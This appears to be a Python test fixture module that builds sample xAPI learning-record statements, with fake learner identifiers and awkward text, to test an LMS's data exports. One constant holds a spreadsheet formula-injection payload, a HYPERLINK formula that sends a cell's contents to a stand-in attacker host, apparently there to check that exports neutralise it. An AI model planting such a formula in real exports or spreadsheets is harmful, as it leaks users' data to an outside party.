"""Statements for exports: every kind of person and object, and texts that bite."""

from typing import Any
from uuid import UUID

from lms.core.json import JsonObject
from lms.xapi import verbs

HOME = "http://lms.test"
ANI = "0d0f9c53-5a3e-4c1f-9d64-8f0a2f0b6c11"
"""The account of a learner."""
NIP = "199804122025042003"
GURU = "mailto:guru.besar@contoh.go.id"
OPENID = "https://sso.contoh.go.id/orang/citra77"
SHA1 = "3f2504e04f8911d39a0c0305e82c3301a1b2c3d4"
REGISTRATION = "7f9c24e8-3b1d-4d66-9a0e-2b6c1d5e8f30"
NAMES = ("Ani Lestari", "Tim Rajawali", "Guru Besar")

IDENTIFIERS = (ANI, NIP, GURU, GURU.partition(":")[2], OPENID, SHA1, REGISTRATION)
"""What leads to a person."""

FORMULA = '=HYPERLINK("http://jahat.example/?"&A1;"klik")'
RUANG = "https://contoh.go.id/ruang"


def account(name: str, /, **more: object) -> JsonObject:
    """Return somebody of this site."""
    return {
        "objectType": "Agent",
        "account": {"homePage": HOME, "name": name},
        **more,
    }


def course(key: str = "kolaborasi") -> JsonObject:
    """Return a course."""
    definition = {"type": verbs.TYPE_COURSE, "name": {"id": "Kolaborasi"}}
    return {"id": f"{HOME}/id/kursus/{key}", "definition": definition}


def said(number: int = 1, **changes: Any) -> JsonObject:  # noqa: ANN401 - any JSON
    """Return a statement of a learner."""
    statement = {
        "id": str(UUID(int=number, version=4)),
        "actor": account(ANI, name=NAMES[0]),
        "verb": {"id": verbs.ANSWERED},
        "object": {
            "id": f"{HOME}/id/soal/{number}",
            "definition": {"name": {"id": f"Soal {number}", "en": "Question"}},
        },
        "timestamp": f"2026-03-01T08:{number % 60:02}:00.123456Z",
    }
    return {**statement, **changes}


def scored(number: int = 2) -> JsonObject:
    """Return a statement with everything that a result may have."""
    return said(
        number,
        result={
            "score": {"scaled": -0.25, "raw": 88.4, "min": 0, "max": 100},
            "success": True,
            "completion": False,
            "response": FORMULA,
            "duration": "PT1M30.5S",
        },
        context={
            "registration": REGISTRATION,
            "instructor": {"mbox": GURU, "name": NAMES[2]},
            "contextActivities": {
                "grouping": [course(), {"id": f"{HOME}/id/angkatan/k1"}],
                "parent": [{"id": f"{HOME}/id/percobaan/{ANI}/1"}],
            },
            "extensions": {RUANG: {"gedung": "B", "lantai": 3}},
        },
    )


def among_people(number: int = 3) -> JsonObject:
    """Return a statement that names people in every place."""
    team = {
        "objectType": "Group",
        "name": NAMES[1],
        "member": [account(NIP), {"mbox_sha1sum": SHA1, "objectType": "Agent"}],
    }
    return said(
        number,
        actor=team,
        object={
            "objectType": "SubStatement",
            "actor": {"openid": OPENID, "objectType": "Agent"},
            "verb": {"id": verbs.EXPERIENCED},
            "object": account(NIP, name=NAMES[0]),
            "context": {"instructor": {"mbox": GURU}},
        },
        context={
            "registration": REGISTRATION,
            "team": {**team, "account": {"homePage": HOME, "name": "tim-2026-77"}},
            "contextAgents": [
                {
                    "objectType": "contextAgent",
                    "agent": {"openid": OPENID},
                    "relevantTypes": [f"{HOME}/jenis"],
                }
            ],
            "contextGroups": [{"objectType": "contextGroup", "group": team}],
        },
    )


def odd(number: int = 4) -> JsonObject:
    """Return a statement whose texts hold what formats must escape."""
    return said(
        number,
        object={
            "id": f"{HOME}/id/aneh",
            "definition": {"name": {"en": 'a "b", <c>&\r\nd\te'}},
        },
        result={"response": "+62\x01 \u2028 é 🎓,;\n'baris", "duration": "P1W"},
    )


def many(count: int = 20) -> list[JsonObject]:
    """Return statements of every kind, and plain ones."""
    special = [scored(), among_people(), odd()]
    return [*special, *(said(100 + number) for number in range(count))]
